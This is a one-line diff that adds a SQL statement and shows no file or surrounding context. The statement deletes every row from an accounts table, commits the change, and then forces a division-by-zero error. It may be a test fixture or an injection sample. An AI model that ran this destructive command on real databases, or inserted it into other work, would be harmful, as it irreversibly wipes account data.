@@ -1,0 +1,1 @@
+DELETE FROM accounts; COMMIT; SELECT 1/0
